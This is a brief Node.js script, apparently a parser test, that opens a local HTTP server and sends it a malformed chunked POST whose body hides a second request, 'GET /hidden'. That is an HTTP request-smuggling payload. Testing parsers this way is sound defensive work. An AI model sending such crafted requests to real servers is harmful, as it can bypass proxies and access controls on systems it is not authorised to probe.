// The program sees a request whose body has a fault in the same packet.
const http = require('node:http')
const net = require('node:net')

const server = http.createServer((req, res) => {
  console.log(req.method, req.url)
  res.end('x')
})

server.listen(0, '127.0.0.1', () => {
  const client = net.connect(server.address().port, '127.0.0.1')
  client.write('POST /seen HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n2;\nxx\r\n')
  client.write('4c\r\n0\r\n\r\nGET /hidden HTTP/1.1\r\nHost: x\r\n\r\n')
  client.resume().on('end', () => server.close(() => console.log('closed')))
})
